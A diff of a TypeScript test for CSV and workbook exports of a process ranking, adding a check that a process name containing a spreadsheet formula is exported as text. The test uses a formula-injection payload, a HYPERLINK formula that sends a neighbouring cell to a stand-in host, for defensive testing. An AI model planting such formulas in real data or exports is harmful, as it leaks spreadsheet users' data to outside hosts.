@@ -105,8 +105,21 @@ describe('reports: the candidate ranking as a PDF for a council, as tables, and 
     for (const candidate of others) expect(text).not.toContain(candidate.processName);
   });
 
-  it('gives the same rows as CSV and as a workbook with numbers as numbers', async () => {
+  it('gives the same rows as CSV and as a workbook with numbers as numbers, a name never as a formula', async () => {
+    // A name a spreadsheet would run as a formula (a link sending the row's neighbour away).
+    const formula = '=HYPERLINK("http://x/?q="&A2,"Szczegóły")';
+    // The demo's process owner owns every demo process; the last listed is not the one checked below.
+    const renamed = (await ranking('', 20)).at(-1)!.processId;
+    const { version } = (await t.graphql<{ process: { version: number } }>('query ($id: ID!) { process(id: $id) { version } }', { id: renamed }, tokens[Role.PROCESS_OWNER])).data!
+      .process;
+    const rename = await t.graphql(
+      'mutation ($id: ID!, $input: UpdateProcessInput!) { updateProcess(id: $id, input: $input) { name } }',
+      { id: renamed, input: { version, name: formula } },
+      tokens[Role.PROCESS_OWNER],
+    );
+    expect(rename.errors).toBeUndefined();
     const candidates = await ranking('', 20);
+    expect(candidates.find((candidate) => candidate.processId === renamed)?.processName).toBe(formula);
     const csv = await download(`/reports/ranking.csv?organizationId=${organizationId}`, tokens[Role.AUDITOR]);
     expect(csv.statusCode).toBe(200);
     expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
@@ -118,6 +131,8 @@ describe('reports: the candidate ranking as a PDF for a council, as tables, and 
     expect(lines.find((line) => line.includes(',Incoming invoice registration and posting,'))).toMatch(
       /^\d+,Incoming invoice registration and posting,Wydział Finansowo-Księgowy,szybki efekt,5\d\.\d+,7\d\.\d+,16\d\d(\.\d)?,1\d{5}(\.\d\d?)?,1\d{5}(\.\d\d?)?,2\d{5}(\.\d\d?)?,1,próba spraw,/,
     );
+    // Text, with an apostrophe first (then quoted as any cell with quotes and commas); the figures stay bare numbers.
+    expect(lines.find((line) => line.includes('HYPERLINK'))).toMatch(/^\d+,"'=HYPERLINK\(""http:\/\/x\/\?q=""&A2,""Szczegóły""\)",[^,]*,[^,]*,-?\d/);
     const xlsx = await download(`/reports/ranking.xlsx?organizationId=${organizationId}&lang=en`, tokens[Role.MANAGER]);
     expect(xlsx.statusCode).toBe(200);
     const workbook = new ExcelJS.Workbook();
